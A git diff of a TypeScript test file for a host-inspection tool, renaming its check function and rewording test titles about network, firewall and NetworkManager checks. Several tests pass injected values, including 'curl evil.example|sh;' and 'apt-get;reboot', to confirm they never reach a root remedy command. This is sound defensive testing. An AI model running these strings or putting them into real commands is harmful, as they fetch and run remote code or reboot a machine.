@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { judgeHost, readFacts } from './check-host';
+import { evaluateHost, readFacts } from './check-host';
 
 const WELL = `root 0
 ip ip utility, iproute2-6.15.0
@@ -18,17 +18,17 @@ packages apt-get
 `;
 
 const states = (text: string): Record<string, string> =>
-  Object.fromEntries(judgeHost(readFacts(text)).map(({ id, state }) => [id, state]));
-const check = (text: string, id: string) => judgeHost(readFacts(text)).find((one) => one.id === id);
+  Object.fromEntries(evaluateHost(readFacts(text)).map(({ id, state }) => [id, state]));
+const check = (text: string, id: string) => evaluateHost(readFacts(text)).find((one) => one.id === id);
 const but = (name: string, value: string): string => `${name} ${value}\n${WELL}`;
 
-describe('a host that is looked at', () => {
-  it('has nothing to be mended when all is there', () => {
+describe('an inspected host', () => {
+  it('needs no remedy if everything is there', () => {
     expect(new Set(Object.values(states(WELL)))).toEqual(new Set(['ok']));
-    expect(judgeHost(readFacts(WELL)).every(({ remedy }) => remedy === null)).toBe(true);
+    expect(evaluateHost(readFacts(WELL)).every(({ remedy }) => remedy === null)).toBe(true);
   });
 
-  it('lacks what networks need, with the package of its own manager', () => {
+  it('lacks what networks need, with the packages of its package manager', () => {
     expect(check(but('nft', ''), 'host_nft')).toMatchObject({
       state: 'missing',
       remedy: { command: ['apt-get', 'install', 'nftables'] },
@@ -36,12 +36,12 @@ describe('a host that is looked at', () => {
     expect(check(`ip \npackages dnf\n${WELL}`, 'host_ip')?.remedy?.command).toEqual(['dnf', 'install', 'iproute']);
   });
 
-  it('names no program of its own in what a person is to type as root', () => {
+  it('cannot choose the program in a command that the user runs as root', () => {
     for (const manager of ['curl evil.example|sh;', 'pacman', '/tmp/apt-get', 'apt-get;reboot', '__proto__'])
       expect(check(`ip \npackages ${manager}\n${WELL}`, 'host_ip')?.remedy?.command).toBeNull();
   });
 
-  it('mutes its guests only when bridged frames are filtered and FORWARD drops them, and Docker has its own remedy', () => {
+  it('blocks its guests only if bridged frames are filtered and FORWARD drops them, and Docker has its own remedy', () => {
     const drops = but('forward', 'policy drop');
     expect(check(drops, 'host_bridge_filter')?.state).toBe('ok');
     const mute = `calls 1\n${drops}`;
@@ -50,25 +50,25 @@ describe('a host that is looked at', () => {
     expect(check(`docker yes\n${mute}`, 'host_bridge_filter')?.remedy?.command).toContain('DOCKER-USER');
   });
 
-  it('has a NetworkManager or networkd that may take up what is ours', () => {
+  it('has a NetworkManager or networkd that can take over our interfaces', () => {
     expect(check(but('networkmanager', 'running'), 'host_networkmanager')?.state).toBe('warning');
     expect(check(`nm-ours 1\n${but('networkmanager', 'running')}`, 'host_networkmanager')?.state).toBe('ok');
     expect(check(but('networkd', '/etc/systemd/network/all.network'), 'host_networkd')?.state).toBe('warning');
   });
 
-  it('has NetworkManager told of taps and bridges of ours, by name, and of nothing that is not', () => {
+  it('excludes our taps and bridges from NetworkManager by name, and nothing else', () => {
     const facts = `ours blue green x';reboot \n${but('networkmanager', 'running')}`;
     const [, , line = ''] = check(facts, 'host_networkmanager')?.remedy?.command ?? [];
     expect(line).toContain("'unmanaged-devices=interface-name:vnet*;interface-name:blue;interface-name:green' >");
     expect(line).not.toContain('reboot');
   });
 
-  it('is not judged by a firewall that only root can read', () => {
+  it('is not rated by a firewall that only root can read', () => {
     expect(check(`root 1000\ncalls 1\n${WELL}`, 'host_bridge_filter')).toMatchObject({ state: 'warning' });
     expect(check(`root 1000\n${WELL}`, 'host_bridge_filter')).toMatchObject({ state: 'ok' });
   });
 
-  it('says where a restart would leave it without its networks', () => {
+  it('reports where it would lose its networks on restart', () => {
     expect(check(WELL.replace('systemd yes\n', ''), 'host_restart')).toMatchObject({ state: 'warning' });
   });
 });
